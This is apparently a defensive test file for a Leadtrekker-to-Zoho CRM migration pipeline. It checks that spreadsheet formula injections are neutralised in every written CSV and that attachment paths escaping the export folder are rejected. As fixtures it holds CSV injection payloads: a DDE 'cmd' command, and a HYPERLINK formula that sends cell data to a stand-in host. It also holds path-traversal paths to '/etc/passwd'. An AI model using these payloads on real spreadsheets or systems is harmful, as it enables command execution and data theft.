/**
 * Hostile values on their way out, end to end (the extract tests cover hostile files on the
 * way in). One export carries spreadsheet formulas (= + - @, tab) in names, companies, a custom
 * column's header and values, an owner email and attachment file names, and attachment paths
 * that leave the export folder (../../, absolute, a symlink to a file outside). Every step that
 * writes a CSV runs (discover, report, load, handoff, delta): no cell of any CSV written may
 * start with a formula character, and the formulas did reach the CSVs (neutralised with a
 * leading apostrophe). The escaping attachments are rejected with ATTACHMENT_PATH_UNSAFE and
 * nothing from outside the folder is uploaded.
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { leadtrekkerToZoho } from '../../pipelines/leadtrekker-to-zoho/pipeline.ts';
import { mustRun } from '../../tools/chaos/lib.ts';
import { createTestDb, type TestDb } from '../helpers/db.ts';
import { makeExport } from '../load/fixture.ts';

const FORMULAS = ['=cmd|\' /C calc\'!A0', '+27 82 555 0101', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1,2)', '\t=1+1'];
let db: TestDb;
let input: string;
let input2: string;
let out: string;
let pipeDir: string;
let outside: string;

function csvFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const p = path.join(dir, e.name);
    return e.isDirectory() ? csvFiles(p) : e.name.endsWith('.csv') ? [p] : [];
  });
}

function hostileExport(leadCount: number): string {
  const dir = makeExport({
    leads: leadCount,
    attachments: [
      { id: 'ATT-1', lead: 'LT-500001', name: 'good.txt', path: 'LT-500001/good.txt', size: 11 },
      { id: 'ATT-2', lead: 'LT-500002', name: 'up.txt', path: '../../../../etc/passwd', size: 10 },
      { id: 'ATT-3', lead: 'LT-500003', name: 'abs.txt', path: '/etc/passwd', size: 10 },
      { id: 'ATT-4', lead: 'LT-500004', name: 'link.txt', path: 'LT-500004/link.txt', size: 10 },
      { id: 'ATT-5', lead: 'LT-500005', name: '=HYPERLINK("http://x.example/?"&A1,"big").pdf', path: 'LT-500005/big.pdf', size: 4096 },
    ],
  });
  mkdirSync(path.join(dir, 'files', 'LT-500001'), { recursive: true });
  writeFileSync(path.join(dir, 'files', 'LT-500001', 'good.txt'), 'hello world');
  mkdirSync(path.join(dir, 'files', 'LT-500004'), { recursive: true });
  symlinkSync(path.join(outside, 'secret.txt'), path.join(dir, 'files', 'LT-500004', 'link.txt'));
  mkdirSync(path.join(dir, 'files', 'LT-500005'), { recursive: true });
  writeFileSync(path.join(dir, 'files', 'LT-500005', 'big.pdf'), Buffer.alloc(4096, 1));
  // Formulas in names, companies, a custom column (header and values) and an owner's email.
  const file = path.join(dir, 'leads.csv');
  const [head, ...rows] = readFileSync(file, 'utf8').trimEnd().split('\n');
  const out = [`${head};=HYPERLINK("http://x.example","Custom")`];
  rows.forEach((line, i) => {
    const cells = line.split(';');
    if (i < FORMULAS.length) {
      cells[1] = FORMULAS[i]!;
      cells[5] = FORMULAS[(i + 1) % FORMULAS.length]!;
    }
    if (i === 6) cells[8] = '+owner@nowhere.example';
    out.push([...cells, i < FORMULAS.length ? FORMULAS[(i + 2) % FORMULAS.length]! : 'plain'].join(';'));
  });
  writeFileSync(file, out.join('\n') + '\n');
  return dir;
}

beforeAll(async () => {
  db = await createTestDb();
  outside = mkdtempSync(path.join(tmpdir(), 'crm-outside-'));
  writeFileSync(path.join(outside, 'secret.txt'), 'outside the export');
  input = hostileExport(9);
  input2 = hostileExport(8); // the cut-over export: the last lead is gone (deleted.csv)
  out = mkdtempSync(path.join(tmpdir(), 'crm-hostile-out-'));
  pipeDir = mkdtempSync(path.join(tmpdir(), 'crm-hostile-pipe-'));
}, 60_000);
afterAll(async () => {
  await db?.drop();
  for (const d of [input, input2, out, pipeDir, outside]) if (d) rmSync(d, { recursive: true, force: true });
});

describe('hostile values in the CSVs the tool writes', () => {
  it('neutralises formulas in every CSV and refuses attachment paths that leave the export', async () => {
    const env = { ZOHO_MAX_ATTACHMENT_BYTES: '1000', CRM_LOAD_CHUNK: '50' };
    const p = leadtrekkerToZoho;
    await mustRun(db.url, p, 'extract', input, { out });
    // discover writes custom-fields.csv into the pipeline's folder: a copy of the definition
    // pointing at a temporary folder keeps the real one untouched.
    await mustRun(db.url, { ...p, dir: pipeDir }, 'discover', input, { out });
    for (const s of ['transform', 'report', 'setup', 'users', 'load', 'handoff']) await mustRun(db.url, p, s, input, { out, apply: true, rejectThreshold: 1 }, env);
    await mustRun(db.url, p, 'delta', input2, { out, rejectThreshold: 1 }, env);

    const files = [...csvFiles(out), ...csvFiles(pipeDir)];
    const names = files.map((f) => path.relative(out, f));
    for (const expected of ['discovery/column-profiles.csv', 'discovery/custom-fields.csv', 'delta/deleted.csv']) expect(names).toContain(expected);
    expect(names.some((n) => n.startsWith('report/findings_')), names.join(', ')).toBe(true);
    expect(names.some((n) => n.startsWith('handoff/')), names.join(', ')).toBe(true);
    const dangerous: string[] = [];
    const neutralised: string[] = [];
    for (const f of files) {
      const text = readFileSync(f, 'utf8').split('\n').filter((l) => !l.startsWith('#')).join('\n');
      const rows = parse(text, { relax_column_count: true, bom: true }) as string[][];
      for (const r of rows)
        for (const cell of r) {
          if (/^[=+\-@\t\r]/.test(cell)) dangerous.push(`${path.basename(f)}: ${JSON.stringify(cell)}`);
          if (/^'[=+\-@\t\r]/.test(cell)) neutralised.push(`${path.basename(f)}: ${cell}`);
        }
    }
    expect(dangerous).toEqual([]);
    // The hostile values did reach the outputs: the custom column's header, an export value, a file name.
    const all = neutralised.join('\n');
    expect(all).toContain(`custom-fields.csv: '=HYPERLINK("http://x.example","Custom")`);
    expect(all).toMatch(/column-profiles\.csv: '[=@+-]/);
    expect(all).toMatch(/: '=HYPERLINK\("http:\/\/x\.example\/\?"&A1,"big"\)\.pdf/);

    // Attachments: the three escaping paths rejected with the reason, only the good file uploaded.
    const rej = (await db.pool.query(`select distinct source_key, reason_code from etl.rejects where object = 'attachments' order by source_key`)).rows;
    expect(rej.filter((r) => r.reason_code === 'ATTACHMENT_PATH_UNSAFE').map((r) => r.source_key), JSON.stringify(rej)).toEqual(['attachments:ATT-2', 'attachments:ATT-3', 'attachments:ATT-4']);
    const up = (await db.pool.query(`select file_name, size from sandbox_zoho.attachments`)).rows;
    expect(up).toEqual([{ file_name: 'good.txt', size: 11 }]);
    // The oversized one waits for a person, not dropped.
    const [q] = (await db.pool.query(`select count(*)::int as n from etl.reconciliation_queue where kind = 'attachment_oversize'`)).rows;
    expect(q.n).toBe(1);
    expect(statSync(path.join(outside, 'secret.txt')).size).toBe(18);
  }, 180_000);
});
